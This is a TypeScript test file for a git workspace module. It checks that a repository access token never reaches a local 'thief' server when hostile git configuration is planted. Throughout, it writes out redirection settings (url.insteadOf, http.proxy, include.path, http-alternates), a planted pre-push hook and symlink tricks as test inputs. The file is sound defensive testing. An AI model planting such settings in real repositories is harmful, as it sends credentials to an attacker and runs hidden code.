import { execFileSync } from "node:child_process";
import { once } from "node:events";
import {
  appendFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { RepositoryAccess, Workspaces } from "../../ports/workspace.ts";
import { StateRemote } from "../git-state/remote.ts";
import { silentLog } from "../system/log.ts";
import { git } from "./git-command.ts";
import { createWorkspaces } from "./workspaces.ts";

/** A web server that records its requests, and answers each with "not found". */
interface Listener {
  server: Server;
  url: string;
  asked: string[];
}
async function listener(): Promise<Listener> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${request.headers.authorization ?? "without"}`);
    response.writeHead(404).end();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { server, asked, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` };
}

const token = `Basic ${Buffer.from("x-access-token:secret").toString("base64")}`;
const sha = "1".repeat(40);
let root: string;
let github: Listener;
let thief: Listener;
let access: RepositoryAccess;
let workspaces: Workspaces;
let trusted: string;
let fetched: string;

beforeEach(async () => {
  root = mkdtempSync(join(tmpdir(), "baton-own-"));
  [github, thief] = await Promise.all([listener(), listener()]);
  access = {
    repository: { id: 7, owner: "acme", name: "shop", defaultBranch: "main", installationId: 3 },
    url: `${github.url}acme/shop.git`,
    token: async () => "secret",
  };
  workspaces = createWorkspaces({ rootDir: root, log: silentLog });
  trusted = join(root, "trusted", "7.git");
  fetched = join(root, "fetched", "7.git");
  await workspaces.readFile(access, sha, "made-by-this");
});
afterEach(async () => {
  for (const { server } of [github, thief]) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(root, { recursive: true, force: true });
});

/** Every call that goes to the remote with the token. The remote refuses each. */
async function useAll(): Promise<void> {
  const calls = [
    workspaces.fetch(access, "main"),
    workspaces.fetch(access, sha),
    workspaces.push(access, { branch: "b", sha, expectedSha: null }),
    workspaces.remoteHead(access, "b"),
    workspaces.deleteRemoteBranch(access, { branch: "b", expectedSha: sha }),
  ];
  for (const { status } of await Promise.allSettled(calls)) expect(status).toBe("rejected");
}

const configurations: [string, () => string][] = [
  ["url.insteadOf", () => `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`],
  ["url.insteadOf of any address", () => `[url "${thief.url}"]\n\tinsteadOf = ""\n`],
  ["url.pushInsteadOf", () => `[url "${thief.url}"]\n\tpushInsteadOf = ${github.url}\n`],
  ["http.proxy", () => `[http]\n\tproxy = ${thief.url}\n`],
  ["http.<url>.proxy", () => `[http "${github.url}"]\n\tproxy = ${thief.url}\n`],
  ["http.<url>.proxy of the repository", () => `[http "${github.url}acme/shop.git"]\n\tproxy = ${thief.url}\n`],
  ["remote.*.proxy and pushurl", () => `[remote "${access.url}"]\n\turl = ${thief.url}\n\tproxy = ${thief.url}\n`],
  [
    "include.path",
    () => {
      writeFileSync(join(root, "more"), `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`);
      return `[include]\n\tpath = ${join(root, "more")}\n[includeIf "gitdir:/"]\n\tpath = ${join(root, "more")}\n`;
    },
  ],
];

describe("agent-leads-write-token-elsewhere", () => {
  it.each(configurations)("%s in the configuration leads no call elsewhere", async (_, configuration) => {
    for (const gitDir of [trusted, fetched]) appendFileSync(join(gitDir, "config"), configuration());
    await useAll();
    expect(thief.asked).toEqual([]);
    expect(new Set(github.asked.map((one) => one.split(" ").slice(2).join(" ")))).toEqual(new Set([token]));
    expect(readFileSync(join(trusted, "config"), "utf8")).not.toContain("127.0.0.1");
  });

  it("the token goes with the one address, even where a changed configuration is read", async () => {
    appendFileSync(join(trusted, "config"), `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`);
    const call = git(["ls-remote", access.url], { gitDir: trusted, token: "secret", url: access.url });
    await expect(call).rejects.toMatchObject({ code: "BATON_GIT_FAILED" });
    expect(thief.asked.length).toBeGreaterThan(0);
    expect(thief.asked.join()).not.toContain("Basic");
  });

  it("hooks, worktree configuration, info, grafts, shallow, commondir and remotes are taken away", async () => {
    const evil = `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`;
    const other = join(root, "other.git");
    execFileSync("git", ["init", "-q", "--bare", other]);
    appendFileSync(join(other, "config"), evil);
    for (const folder of ["hooks", "info", "remotes", "branches"]) mkdirSync(join(trusted, folder));
    const planted: Record<string, string> = {
      "hooks/pre-push": `#!/bin/sh\ntouch '${join(root, "PWNED")}'\n`,
      "info/attributes": "* filter=x\n",
      "info/grafts": `${sha} ${sha}\n`,
      "remotes/origin": `URL: ${thief.url}\n`,
      "branches/origin": thief.url,
      "config.worktree": evil,
      commondir: `${other}\n`,
      shallow: `${sha}\n`,
      "objects/info/alternates": `${join(root, "elsewhere")}\n`,
      "objects/info/http-alternates": `${thief.url}\n`,
    };
    for (const [path, text] of Object.entries(planted)) writeFileSync(join(trusted, path), text, { mode: 0o755 });
    rmSync(join(trusted, "HEAD"));
    symlinkSync(join(other, "HEAD"), join(trusted, "HEAD"));
    symlinkSync(join(other, "config"), join(trusted, "packed-refs"));
    symlinkSync(other, join(trusted, "refs", "remotes"));
    await useAll();
    expect(thief.asked).toEqual([]);
    for (const path of Object.keys(planted))
      expect(existsSync(join(trusted, path)), path).toBe(path === "objects/info/alternates");
    expect(readFileSync(join(trusted, "objects", "info", "alternates"), "utf8")).toBe(`${join(fetched, "objects")}\n`);
    expect(lstatSync(join(trusted, "HEAD")).isFile()).toBe(true);
    expect(existsSync(join(root, "PWNED"))).toBe(false);
    expect(readFileSync(join(other, "config"), "utf8")).toContain(thief.url);
  });

  it.each(["trusted", "fetched"])(
    "%s/<id>.git replaced by a link, by a file, or with its config as a link",
    async (folder) => {
      const gitDir = join(root, folder, "7.git");
      const evil = `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`;
      renameSync(gitDir, join(root, "moved.git"));
      appendFileSync(join(root, "moved.git", "config"), evil);
      symlinkSync(join(root, "moved.git"), gitDir);
      await useAll();
      expect(lstatSync(gitDir).isDirectory()).toBe(true);
      expect(readFileSync(join(root, "moved.git", "config"), "utf8")).toContain(evil);
      rmSync(gitDir, { recursive: true });
      writeFileSync(gitDir, `gitdir: ${join(root, "moved.git")}\n`);
      await useAll();
      rmSync(join(gitDir, "config"));
      symlinkSync(join(root, "moved.git", "config"), join(gitDir, "config"));
      await useAll();
      expect(thief.asked).toEqual([]);
      expect(lstatSync(join(gitDir, "config")).isFile()).toBe(true);
    },
  );

  it("the clone of the state refs is put right too", async () => {
    const gitDir = join(root, "state", "thread-1.git");
    const remote = new StateRemote({ gitDir, url: access.url, token: access.token });
    await expect(remote.heads(["refs/baton/x"])).rejects.toThrow();
    appendFileSync(join(gitDir, "config"), `[url "${thief.url}"]\n\tinsteadOf = ${github.url}\n`);
    writeFileSync(join(gitDir, "commondir"), `${trusted}\n`);
    await expect(remote.heads(["refs/baton/x"])).rejects.toThrow();
    await expect(remote.fetch(["refs/baton/x"])).rejects.toThrow();
    await expect(remote.push([{ ref: "refs/baton/x", expected: null, sha }])).rejects.toThrow();
    expect(thief.asked).toEqual([]);
    expect(github.asked.length).toBeGreaterThan(3);
  });
});
